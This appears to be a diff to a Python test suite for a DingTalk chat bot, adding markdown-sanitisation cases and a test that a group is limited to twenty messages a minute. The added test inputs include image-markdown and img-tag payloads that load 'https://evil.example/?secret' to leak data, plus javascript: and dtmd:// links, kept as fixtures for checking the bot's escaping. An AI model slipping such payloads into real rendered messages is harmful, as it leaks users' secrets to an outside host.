@@ -192,6 +192,8 @@ def test_markdown_is_written_as_dingtalk_reads_it(markdown, text):
     "[ok](javascript:alert(1))",
     "![x](https://evil.example/?secret)",
     "\\[ok](dtmd://dingtalkclient/sendMessage?content=yes)",
+    "\\![x](https://evil.example/?secret)", "`![x](//evil.example/s)`",
+    "wow![x](https://evil.example/?secret)",
     "<img src=https://evil.example/x>", "<font color=red>x</font>",
     "```\n![x](https://evil.example/?secret)\n```",
     "`![x]( https://evil.example/?secret)` `<img src=x>`",
@@ -385,6 +387,28 @@ def test_a_limit_by_any_name_is_waited_for(bot, platform, code, status,
     asyncio.run(work())
 
     assert [m.chat for m in platform.messages()] == [GROUP, ALICE]
+
+
+def test_a_group_gets_twenty_messages_a_minute(bot, platform):
+    know(bot, GROUP)
+
+    async def work():
+        channel = bot.make()
+        try:
+            for _ in range(20):
+                await channel.send(SendMessage("a", GROUP))
+            with pytest.raises(RateLimitedError) as caught:
+                await channel.send(SendMessage("a", GROUP))
+            assert 50 < caught.value.retry_after_s <= 60
+            await channel.send(SendMessage("a", ALICE))
+            bot.later = 61.0
+            await channel.send(SendMessage("a", GROUP))
+        finally:
+            await channel.aclose()
+
+    asyncio.run(work())
+
+    assert len(platform.messages(GROUP)) == 21
 
 
 def test_a_session_that_is_limited_is_not_gone_around(bot, platform):
